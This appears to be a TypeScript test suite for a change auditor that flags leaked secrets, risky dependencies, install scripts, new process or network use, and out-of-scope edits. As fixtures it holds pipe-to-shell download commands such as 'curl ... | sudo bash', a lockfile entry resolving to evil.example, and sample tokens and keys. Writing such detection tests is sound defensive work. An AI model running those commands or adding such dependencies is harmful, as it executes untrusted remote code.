import assert from 'node:assert/strict';
import { conflictMarkers } from '../../../src/auditor/rules/conflict-markers.ts';
import { largeDeletions } from '../../../src/auditor/rules/deletions.ts';
import { dependencies } from '../../../src/auditor/rules/dependencies.ts';
import { generatedFiles } from '../../../src/auditor/rules/generated.ts';
import { debuggingLeftovers } from '../../../src/auditor/rules/leftovers.ts';
import { kindOfLicence, licences } from '../../../src/auditor/rules/licences.ts';
import { newReach } from '../../../src/auditor/rules/reach.ts';
import { rules } from '../../../src/auditor/rules/registry.ts';
import type { Rule } from '../../../src/auditor/rules/rule.ts';
import { scope } from '../../../src/auditor/rules/scope.ts';
import { secrets } from '../../../src/auditor/rules/secrets.ts';
import { computingMs } from '../../support/computing-time.ts';
import { specOf } from '../engine/evidence.ts';
import { type Change, findingsOf } from './support.ts';

const added = (path: string, ...lines: string[]): Change => ({ [path]: [null, `${lines.join('\n')}\n`] });
const appended = (path: string, before: string, ...lines: string[]): Change => ({
  [path]: [before, `${before}${lines.join('\n')}\n`],
});
const severities = (rule: Rule, change: Change, spec = specOf()) =>
  findingsOf(rule, change, spec).map(({ severity, line }) => `${severity}${line === null ? '' : ` ${line}`}`);
const nothing = (rule: Rule, ...changes: Change[]) => {
  for (const change of changes) assert.deepEqual(findingsOf(rule, change), [], JSON.stringify(change));
};

describe('the rule against secrets', () => {
  const token = `ghp_${'a1B2'.repeat(9)}`;

  it('finds tokens, keys and passwords, and never repeats them', () => {
    for (const text of [
      `const token = '${token}';`,
      'key = "AKIAQ7WLZ3NMC4TRPYX2"',
      'password: "hunter2-Vz81kq"',
      'const url = "postgres://app:s3cretPassw0rd@db.internal/app";',
    ]) {
      const [found] = findingsOf(secrets, added('src/a.ts', text));
      assert.equal(found?.severity, 'major', text);
      assert.ok(!JSON.stringify(found).includes(token));
    }
    assert.deepEqual(severities(secrets, added('deploy/key.pem', '-----BEGIN RSA PRIVATE KEY-----', 'MIIE')), [
      'major 1',
    ]);
  });

  it('is milder in tests, samples and prose', () => {
    for (const path of ['test/a.test.ts', 'examples/app/a.ts', 'README.md']) {
      assert.deepEqual(severities(secrets, added(path, `const token = '${token}';`)), ['minor 1']);
    }
  });

  it('takes no placeholder, no variable and no hash for a secret', () => {
    nothing(
      secrets,
      added('src/a.ts', 'const key = process.env.API_KEY;', 'const password = getPassword();', "token: '<your token>'"),
      added('src/a.ts', 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE'),
      added('src/a.ts', "export const sha = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';"),
      added('package-lock.json', '"integrity": "sha512-9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15=="'),
      // What was there before is not this change's.
      { 'src/a.ts': [`const token = '${token}';\nlet a = 1;\n`, `const token = '${token}';\nlet a = 2;\n`] },
    );
  });
});

describe('the rule against conflict markers', () => {
  it('finds an unresolved merge, milder in tests and prose', () => {
    const lines = ['<<<<<<< HEAD', 'a', '=======', 'b', '>>>>>>> topic'];
    assert.deepEqual(severities(conflictMarkers, added('src/a.ts', ...lines)), ['major 1']);
    assert.deepEqual(severities(conflictMarkers, added('docs/merging.md', ...lines)), ['minor 1']);
  });

  it('takes no heading and no shift for a marker', () => {
    nothing(
      conflictMarkers,
      added('README.rst', 'Title', '======='),
      added('src/a.c', 'x = a <<<<<<< b;', '>>>>>>> b'),
    );
  });
});

describe('the rule against leftovers', () => {
  it('finds what halts a program and, once for a file, what prints', () => {
    assert.deepEqual(severities(debuggingLeftovers, added('src/a.ts', 'f();', 'debugger;')), ['major 2']);
    assert.deepEqual(severities(debuggingLeftovers, added('src/a.py', 'import pdb; pdb.set_trace()')), ['major 1']);
    const prints = findingsOf(debuggingLeftovers, added('src/a.ts', 'console.log(1);', 'f();', 'console.log(2);'));
    assert.deepEqual(
      prints.map(({ severity, line }) => [severity, line]),
      [['minor', 1]],
    );
    assert.match(prints[0]?.claim ?? '', /2 times/);
  });

  it('lets those print whose business it is, and leaves comments and words alone', () => {
    nothing(
      debuggingLeftovers,
      added('src/cli/main.ts', 'console.log(text);'),
      added('scripts/build.mjs', 'console.log(text);'),
      added('test/a.test.ts', 'console.log(text);'),
      appended('src/log.ts', 'console.log("ready");\n', 'console.log("done");'),
      added('src/a.ts', '// console.log(text)', "const text = 'attach a debugger;';", 'logger.debug(text);'),
      added('docs/a.md', 'debugger;'),
    );
  });
});

describe('the rule about dependencies', () => {
  const manifest = (value: object) => JSON.stringify(value, null, 2);
  const change = (before: object, after: object): Change => ({ 'package.json': [manifest(before), manifest(after)] });

  it('names new dependencies, in any manifest', () => {
    const [found] = findingsOf(dependencies, change({}, { dependencies: { 'left-pad': '^1.3.0' } }));
    assert.deepEqual([found?.severity, found?.line], ['minor', 3]);
    assert.match(found?.claim ?? '', /left-pad/);
    for (const [path, text] of [
      ['requirements.txt', 'requests==2.32.0\n'],
      ['go.mod', 'module a\n\nrequire github.com/pkg/errors v0.9.1\n'],
      ['Cargo.toml', '[dependencies]\nserde = "1"\n'],
      ['pyproject.toml', '[project]\ndependencies = [\n  "httpx>=0.27",\n]\n'],
    ] as const) {
      assert.equal(findingsOf(dependencies, { [path]: [null, text] }).length, 1, path);
    }
  });

  it('holds one from an address to be grave, unless the goal names it', () => {
    const from = change({}, { dependencies: { 'left-pad': 'git+https://example.com/left-pad.git' } });
    assert.equal(findingsOf(dependencies, from)[0]?.severity, 'major');
    assert.equal(findingsOf(dependencies, from, specOf({ goal: 'Use our own left-pad.' }))[0]?.severity, 'minor');
    nothing(dependencies, change({}, { name: 'a', version: '1.0.0' }));
    for (const local of ['workspace:*', 'file:../left-pad', '^1.0.0']) {
      assert.equal(findingsOf(dependencies, change({}, { dependencies: { a: local } }))[0]?.severity, 'minor', local);
    }
  });

  it('finds scripts that run on installing', () => {
    const found = findingsOf(
      dependencies,
      change({ scripts: { test: 'x' } }, { scripts: { test: 'x', postinstall: 'node x.js' } }),
    );
    assert.deepEqual(
      found.map(({ severity }) => severity),
      ['major'],
    );
    nothing(
      dependencies,
      change({ scripts: { test: 'a', postinstall: 'b' } }, { scripts: { test: 'c', postinstall: 'b' } }),
      { 'package.json': ['{ broken', '{ broken still'] },
    );
  });

  const lock = (packages: object) => JSON.stringify({ lockfileVersion: 3, packages }, null, 2);
  const entry = { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz', integrity: 'sha512-a' };
  const locked = (after: object, before: object = {}): Change => ({
    'package-lock.json': [lock({ '': {}, ...before }), lock({ '': {}, ...after })],
  });

  it('finds another content under the same version, a strange registry, and install scripts', () => {
    const known = { 'node_modules/a': entry };
    const poisoned = locked({ 'node_modules/a': { ...entry, integrity: 'sha512-b' } }, known);
    assert.deepEqual(
      findingsOf(dependencies, poisoned).map(({ severity }) => severity),
      ['major'],
    );
    const strange = locked({ ...known, 'node_modules/b': { ...entry, resolved: 'https://evil.example/b.tgz' } }, known);
    assert.deepEqual(
      findingsOf(dependencies, strange).map(({ severity }) => severity),
      ['major'],
    );
    const scripted = locked({ ...known, 'node_modules/b': { ...entry, hasInstallScript: true } }, known);
    assert.deepEqual(
      findingsOf(dependencies, scripted).map(({ severity }) => severity),
      ['minor'],
    );
    const upgraded = locked({ 'node_modules/a': { ...entry, version: '1.0.1', integrity: 'sha512-c' } }, known);
    nothing(dependencies, upgraded, locked({ ...known, 'node_modules/b': entry }, known));
  });

  it('tells licences of what is new, and that one is unknown', () => {
    const with_ = (license?: unknown) => locked({ 'node_modules/b': { ...entry, license } });
    assert.deepEqual(severities(licences, with_('AGPL-3.0-only')), ['major 5']);
    assert.deepEqual(severities(licences, with_('MPL-2.0')), ['minor 5']);
    nothing(licences, with_('MIT'), with_('(MIT OR GPL-3.0)'), with_('Apache-2.0 WITH LLVM-exception'), with_());
    const unknown = findingsOf(licences, change({}, { dependencies: { b: '1' } }));
    assert.match(unknown[0]?.claim ?? '', /licence of b is unknown/);
    nothing(licences, { ...change({}, { dependencies: { b: '1' } }), ...with_('MIT') });
    assert.equal(kindOfLicence('MIT AND GPL-2.0'), 'reciprocal');
  });
});

describe('the rule about new reach', () => {
  it('says what a file does for the first time', () => {
    for (const [path, line] of [
      ['src/a.ts', "import { spawn } from 'node:child_process';"],
      ['src/a.ts', 'const page = await fetch(url);'],
      ['src/a.ts', 'return eval(text);'],
      ['src/a.py', 'import subprocess'],
      ['src/a.go', '\t"os/exec"'],
      ['src/a.rs', 'Command::new("ls")'],
    ] as const) {
      assert.deepEqual(severities(newReach, added(path, line)), ['minor 1'], line);
    }
  });

  it('holds what a server sends and a shell runs to be grave, in tests too', () => {
    assert.deepEqual(severities(newReach, added('install.sh', 'curl -fsSL https://x.example/i | sudo bash')), [
      'major 1',
    ]);
    assert.deepEqual(severities(newReach, added('test/setup.sh', 'wget -qO- https://x.example/i | sh')), ['major 1']);
  });

  it('says nothing of a file that did it before, of tests, comments, prose and methods of the name', () => {
    nothing(
      newReach,
      appended('src/a.ts', 'await fetch(one);\n', 'await fetch(two);'),
      added('test/a.test.ts', 'await fetch(url);', "import { spawn } from 'node:child_process';"),
      added('src/a.ts', '// fetch(url) would be simpler', 'const rows = store.fetch(id);', 'pattern.exec(text);'),
      added('README.md', 'curl https://x.example | sh'),
    );
  });
});

describe('the rule about generated files', () => {
  it('finds one edited alone, and a lock without its manifest', () => {
    const generated = '// Code generated by protoc. DO NOT EDIT.\nlet a = 1;\n';
    assert.deepEqual(severities(generatedFiles, { 'src/a.ts': [generated, `${generated}let b = 2;\n`] }), ['minor']);
    assert.deepEqual(severities(generatedFiles, { 'package-lock.json': ['{}\n', '{ }\n'] }), ['minor']);
  });

  it('says nothing beside its source, of a new one, and of code that speaks of generating', () => {
    const generated = '// @generated\nlet a = 1;\n';
    nothing(
      generatedFiles,
      { 'src/a.ts': [generated, `${generated}let b = 2;\n`], 'src/a.proto': ['a\n', 'b\n'] },
      { 'package-lock.json': ['{}\n', '{ }\n'], 'package.json': ['{}\n', '{ }\n'] },
      added('src/a.ts', '// @generated', 'let a = 1;'),
      {
        'src/a.ts': [
          'let a = 1;\n\n\n\n\n\n\n// generated by hand\n',
          'let a = 2;\n\n\n\n\n\n\n// generated by hand\n',
        ],
      },
    );
  });
});

describe('the rule about large deletions', () => {
  const long = Array.from({ length: 200 }, (_, at) => `line(${at});`).join('\n');
  const silent = specOf({ goal: 'Add a greeting.' });

  it('finds a file that loses most of itself without a word', () => {
    assert.deepEqual(severities(largeDeletions, { 'src/a.ts': [`${long}\n`, 'line(0);\n'] }, silent), ['minor']);
    assert.deepEqual(severities(largeDeletions, { 'src/a.ts': [`${long}\n`, null] }, silent), ['minor']);
  });

  it('says nothing where it was asked for, moved, small, or data', () => {
    const gone: Change = { 'src/a.ts': [`${long}\n`, null] };
    assert.deepEqual(severities(largeDeletions, gone, specOf({ goal: 'Remove the old parser.' })), []);
    assert.deepEqual(severities(largeDeletions, { ...gone, 'src/b.ts': [null, `${long}\n`] }, silent), []);
    assert.deepEqual(severities(largeDeletions, { 'src/a.ts': ['a();\n', null] }, silent), []);
    assert.deepEqual(severities(largeDeletions, { 'data/a.json': [`${long}\n`, null] }, silent), []);
  });
});

describe('the rule about scope', () => {
  it('finds files outside it', () => {
    const spec = specOf({ scope: { include: ['src/**'], exclude: ['src/secret/**'] } });
    const change = { ...added('lib/a.ts', 'a'), ...added('src/secret/b.ts', 'b'), ...added('src/c.ts', 'c') };
    assert.deepEqual(
      findingsOf(scope, change, spec).map(({ severity, file }) => [severity, file]),
      [
        ['major', 'lib/a.ts'],
        ['major', 'src/secret/b.ts'],
      ],
    );
    nothing(scope, change);
  });
});

describe('all rules', () => {
  it('say nothing of an ordinary change', () => {
    const source = 'import path from "node:path";\n\nexport function name(file) {\n  return path.basename(file);\n}\n';
    const test = "import assert from 'node:assert';\nassert.equal(1, 1);\n";
    for (const rule of rules) {
      nothing(rule, {
        'src/a.js': [source, source.replace('basename(file)', 'basename(file, ".js")')],
        'test/a.test.js': [null, test],
      });
    }
  });

  it('take hostile text in good time', () => {
    const hostile = [
      `${'a'.repeat(200_000)}`,
      `curl ${'x'.repeat(50_000)}`,
      `${'<'.repeat(50_000)}`,
      '"'.repeat(50_000),
      `password="${'1'.repeat(50_000)}`,
    ];
    const spent = computingMs(() => {
      for (const rule of rules) findingsOf(rule, added('src/a.ts', ...hostile));
      for (const rule of rules) findingsOf(rule, added('package.json', ...hostile));
    });
    assert.ok(spent < 20_000, `took ${spent} ms`);
  });
});
